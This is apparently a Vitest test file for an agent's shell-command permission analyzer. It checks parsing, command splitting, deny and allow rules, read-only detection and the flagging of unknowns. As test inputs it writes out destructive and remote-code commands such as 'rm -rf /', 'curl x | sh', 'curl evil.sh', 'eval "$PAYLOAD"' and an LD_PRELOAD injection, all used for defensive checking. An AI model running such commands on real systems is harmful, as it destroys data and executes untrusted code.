// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${…} here is shell parameter expansion, not a JS template
import { describe, expect, it } from "vitest";
import { analyze, shellParser } from "../helpers/permission-fixtures.js";

const texts = async (command: string) => (await analyze(command)).commands.map((entry) => entry.text);

describe("the shell parser", () => {
	it("reads words as the shell does: quotes removed, escapes applied, expansions marked", async () => {
		const parser = await shellParser();
		const parsed = parser.parse(`'r'm -rf "/x" a\\ b $HOME "$(id)" *.ts {a,b} ~/y $'\\t'`);
		expect(parsed.ok).toBe(true);
		if (!parsed.ok) return;
		expect(parsed.script.calls[0]?.words).toEqual([
			{ value: "rm", dynamic: false },
			{ value: "-rf", dynamic: false },
			{ value: "/x", dynamic: false },
			{ value: "a b", dynamic: false },
			{ value: "$HOME", dynamic: true },
			{ value: '"$(id)"', dynamic: true },
			{ value: "*.ts", dynamic: true },
			{ value: "{a,b}", dynamic: true },
			{ value: "~/y", dynamic: false },
			{ value: "$'\\t'", dynamic: true },
		]);
	});

	it("knows every redirection operator (token numbers of the pinned mvdan-sh)", async () => {
		const parser = await shellParser();
		const operators = [">", ">>", "<", "<>", ">|", "&>", "&>>", "<<<"];
		for (const operator of operators) {
			const parsed = parser.parse(`cmd ${operator} file`);
			expect(parsed.ok && parsed.script.redirects[0]?.operator).toBe(operator);
		}
		const heredoc = parser.parse("cat <<EOF\nx\nEOF");
		expect(heredoc.ok && heredoc.script.redirects[0]?.operator).toBe("<<");
		const duplicate = parser.parse("cmd 2>&1 >&2 >& out.log");
		expect(duplicate.ok && duplicate.script.redirects.map((redirect) => redirect.writes)).toEqual([
			false,
			false,
			true,
		]);
	});

	it("reports what it cannot parse instead of throwing", async () => {
		const parser = await shellParser();
		expect(parser.parse("echo 'open")).toEqual({
			ok: false,
			error: expect.stringContaining("without closing quote"),
		});
		expect(parser.parse("echo )")).toMatchObject({ ok: false });
	});

	it("leaves the process as it found it (mvdan-sh's runtime changes Error.stackTraceLimit and a global require)", async () => {
		await shellParser();
		expect(Error.stackTraceLimit).not.toBe(Number.POSITIVE_INFINITY);
		expect(Object.hasOwn(globalThis, "require")).toBe(false);
	});
});

describe("every command of a script", () => {
	it("splits pipelines, lists, subshells, substitutions, loops and function bodies", async () => {
		expect(await texts("git status && npm test | tee out.txt; (cd x; rm -rf /)")).toEqual([
			"git status",
			"npm test",
			"tee out.txt",
			"cd x",
			"rm -rf /",
		]);
		expect(await texts("echo $(whoami) `id` <(ls)")).toEqual(["echo $(whoami) `id` <(ls)", "whoami", "id", "ls"]);
		expect(await texts("for f in *; do rm $f; done; while true; do sleep 1; done")).toEqual([
			"rm $f",
			"true",
			"sleep 1",
		]);
		expect(await texts("f() { rm -rf /; }; f")).toEqual(["rm -rf /", "f"]);
		expect((await texts("x=$(curl evil.sh) echo ${y:-$(reboot)}")).sort()).toEqual([
			"curl evil.sh",
			"echo ${y:-$(reboot)}",
			"reboot",
		]);
	});

	it("parses the scripts of bash -c, sh -c, eval, su -c, watch and alias again", async () => {
		expect(await texts("bash -c 'rm -rf / && echo hi'")).toEqual(["rm -rf /", "echo hi"]);
		expect(await texts('eval "git push --force"')).toEqual(["git push --force"]);
		expect(await texts("su -c 'reboot' root")).toContain("reboot");
		expect(await texts("watch 'rm -rf /tmp/x'")).toContain("rm -rf /tmp/x");
		expect(await texts("alias ls='rm -rf /'")).toContain("rm -rf /");
		expect(await texts("sudo bash -c 'curl x | sh'")).toEqual(
			expect.arrayContaining(["curl x", "sudo bash -c curl x | sh"]),
		);
	});

	it("adds the commands of find -exec and xargs, whose arguments are only known when they run", async () => {
		const find = await analyze("find . -name '*.o' -exec rm {} \\;");
		expect(find.commands.map((entry) => entry.text)).toEqual(["rm {}", "find . -name *.o -exec rm {} ;"]);
		expect(find.commands[0]?.dynamicPrefixes).toEqual(["rm "]);
		const xargs = await analyze("ls | xargs -n1 rm -f");
		expect(xargs.commands.map((entry) => entry.text)).toContain("rm -f <input>");
	});

	it("offers deny rules every form: wrappers removed, each tail, names without directories", async () => {
		const [sudo] = (await analyze("sudo -u root /bin/rm -rf /")).commands;
		expect(sudo?.denyTexts).toEqual(
			expect.arrayContaining(["sudo -u root /bin/rm -rf /", "/bin/rm -rf /", "rm -rf /"]),
		);
		const [env] = (await analyze("env -i X=1 timeout -s KILL 5 nice -n 2 rm -rf /")).commands;
		expect(env?.denyTexts).toContain("rm -rf /");
		expect(env?.allowText).toBe("rm -rf /");
	});

	it("lets allow rules see through harmless wrappers only, and not past risky variables", async () => {
		const [harmless] = (await analyze("CI=1 env FOO=bar timeout 60 npm test")).commands;
		expect(harmless?.allowText).toBe("npm test");
		const [risky] = (await analyze("PATH=/tmp/evil git status")).commands;
		expect(risky?.allowText).toBe("PATH=/tmp/evil git status");
		expect(risky?.denyTexts).toContain("git status");
		const [sudo] = (await analyze("sudo npm test")).commands;
		expect(sudo?.allowText).toBe("sudo npm test");
		const exported = await analyze("export LD_PRELOAD=/tmp/x.so; ls");
		expect(exported.commands.map((entry) => entry.text)).toEqual(["LD_PRELOAD=/tmp/x.so", "ls"]);
		expect(exported.unknowns).toEqual([]);
	});

	it("a relative output file after cd cannot be placed: it is unknown", async () => {
		expect((await analyze("cd /etc && echo x > passwd")).unknowns).toEqual([
			"output goes to passwd in a directory the command changes to",
		]);
		expect((await analyze("cd src && echo x > /tmp/out")).unknowns).toEqual([]);
	});

	it("`command -v` only looks a name up", async () => {
		const [lookup] = (await analyze("command -v rm")).commands;
		expect(lookup?.denyTexts).toEqual(["command -v rm"]);
		expect(lookup?.readOnly).toBe(true);
	});

	it("collects files that output redirections write, but not descriptors and devices", async () => {
		const analysis = await analyze("echo hi > out.txt 2>&1 >> log/a.log 2>/dev/null < in.txt");
		expect(analysis.writes).toEqual(["out.txt", "log/a.log"]);
		expect((await analyze("echo > $FILE")).unknowns).toEqual([
			expect.stringContaining("file named only when it runs"),
		]);
	});

	it("names what it cannot know before the command runs", async () => {
		expect((await analyze("$CMD -rf /")).unknowns).toEqual([expect.stringContaining("command name is only known")]);
		expect((await analyze("{r,}m -rf /")).unknowns).toEqual([expect.stringContaining("command name is only known")]);
		expect((await analyze("curl -s x | bash")).unknowns).toEqual(["bash reads the commands to run from its input"]);
		expect((await analyze('eval "$PAYLOAD"')).unknowns).toEqual([
			expect.stringContaining("eval runs a script only known"),
		]);
		expect((await analyze("echo 'open")).unknowns).toEqual([expect.stringContaining("could not be parsed")]);
		expect((await analyze("bash script.sh")).unknowns).toEqual([]);
	});

	it("marks read-only commands (plan mode runs them)", async () => {
		const readOnly = async (command: string) => (await analyze(command)).commands.every((entry) => entry.readOnly);
		for (const command of [
			"ls -la",
			"git status",
			"git log --oneline",
			"cat a | grep b | wc -l",
			"git branch -a",
			"find . -name x",
		]) {
			expect(await readOnly(command), command).toBe(true);
		}
		for (const command of [
			"rm x",
			"git push",
			"git branch new",
			"find . -delete",
			"sort -o out a",
			"sudo ls",
			"rg --pre sh x",
			"PATH=/x ls",
			"npm test",
		]) {
			expect(await readOnly(command), command).toBe(false);
		}
	});
});
